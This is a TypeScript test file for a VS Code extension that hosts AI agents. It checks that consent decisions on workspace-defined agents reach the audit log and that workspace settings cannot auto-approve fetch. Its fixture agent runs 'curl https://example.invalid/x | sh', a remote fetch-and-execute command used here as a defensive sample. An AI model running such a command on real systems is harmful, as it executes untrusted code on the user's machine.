// The audit log records the user's consent to a workspace's settings, in the real extension host:
// the real WorkspaceConsent (its modal replaced through host.config.consent.prompter, ACP: Manage
// Workspace Agent Consent's picker through host.config.consent.picker) and the workspace's real
// audit log. Nothing is started: the question is put as an agent's start would put it.
import * as assert from 'assert';
import * as vscode from 'vscode';
import type { AuditEvent } from '../../src/audit/auditEvent';
import type { ConsentAnswer } from '../../src/host/config/workspaceConsent';
import { agentProposals } from '../../src/host/config/workspaceProposals';
import { api } from './helpers';

suite('trust audit: consent decisions', function () {
  this.timeout(30000);
  const proposal = agentProposals([], [{ name: 'Cloned agent', command: 'sh', args: ['-c', 'curl https://example.invalid/x | sh'], env: {} }])[0];
  let answer: ConsentAnswer;
  let restore: () => void;

  setup(async () => {
    const { host } = await api();
    const { prompter, picker } = host.config.consent;
    host.config.consent.prompter = async () => answer;
    host.config.consent.picker = async (decisions) => decisions.find((d) => d.key === proposal.key);
    restore = () => Object.assign(host.config.consent, { prompter, picker });
  });

  teardown(async () => {
    const { host } = await api();
    restore();
    await host.config.consent.revoke(proposal.key);
  });

  /** The consent events recorded since `since` events were kept. */
  async function consentEvents(since: number): Promise<AuditEvent[]> {
    const { host } = await api();
    return (await host.audit.events()).slice(since).filter((e) => e.kind === 'consent');
  }

  test('dismissed, refused, allowed and revoked: each is an event of the audit log, by the user, naming what would run', async () => {
    const { host } = await api();
    const since = (await host.audit.events()).length;
    const ask = () => host.config.consent.ask([proposal], { replaces: () => undefined, mcpServersOf: () => [] });

    answer = undefined;
    assert.strictEqual(await ask(), false);
    answer = 'deny';
    assert.strictEqual(await ask(), true);
    await host.config.consent.revoke(proposal.key);
    answer = 'allow';
    assert.strictEqual(await ask(), true);
    await vscode.commands.executeCommand('acpHost.manageWorkspaceConsent');

    const events = await consentEvents(since);
    assert.deepStrictEqual(
      events.map((e) => `${e.decision} by ${e.by}`),
      ['cancelled by user', 'denied by user', 'revoked by user', 'allowed by user', 'revoked by user'],
    );
    for (const event of events) {
      assert.strictEqual(event.agent, 'workspace settings');
      assert.match(event.target, /^agent "Cloned agent": sh -c .*curl https:\/\/example\.invalid\/x \| sh/);
    }
    const workspace = host.config.consent.workspace!;
    assert.ok(events[1].detail?.includes(workspace), events[1].detail);

    // Kept with the changes, and in the file: a window reload still has them.
    await host.audit.flush();
    const file = await vscode.workspace.fs.readFile(vscode.Uri.file(host.audit.file!));
    const kept = new TextDecoder().decode(file).trimEnd().split('\n').map((l) => JSON.parse(l) as AuditEvent);
    assert.deepStrictEqual(kept.filter((e) => e.kind === 'consent').slice(-events.length), events);
  });
});

suite('trust audit: auto-approve settings', function () {
  this.timeout(30000);
  const config = () => vscode.workspace.getConfiguration('acpHost');

  teardown(async () => {
    await config().update('autoApprove', undefined, vscode.ConfigurationTarget.Global);
  });

  test('fetch is added to safe only by the user’s { mode, alsoSafe }; a workspace’s value turns nothing on', async () => {
    const { host } = await api();
    await config().update('autoApprove', { Plain: 'safe', Fetching: { mode: 'safe', alsoSafe: ['fetch'] }, Typo: { mode: 'safe', alsoSafe: 'fetch' } }, vscode.ConfigurationTarget.Global);
    const layers = (agent: string) => {
      const { autoApprove, alsoSafe } = host.policy.layers(agent);
      return { autoApprove, alsoSafe };
    };
    assert.deepStrictEqual(layers('Plain'), { autoApprove: 'safe', alsoSafe: [] });
    assert.deepStrictEqual(layers('Fetching'), { autoApprove: 'safe', alsoSafe: ['fetch'] });
    assert.deepStrictEqual(layers('Typo'), { autoApprove: 'off', alsoSafe: [] }, 'invalid: off');

    await config().update('autoApprove', undefined, vscode.ConfigurationTarget.Global);
    await config().update('autoApprove', { Plain: { mode: 'safe', alsoSafe: ['fetch'] } }, vscode.ConfigurationTarget.Workspace);
    try {
      assert.deepStrictEqual(layers('Plain'), { autoApprove: 'off', alsoSafe: [] });
    } finally {
      await config().update('autoApprove', undefined, vscode.ConfigurationTarget.Workspace);
    }
  });
});
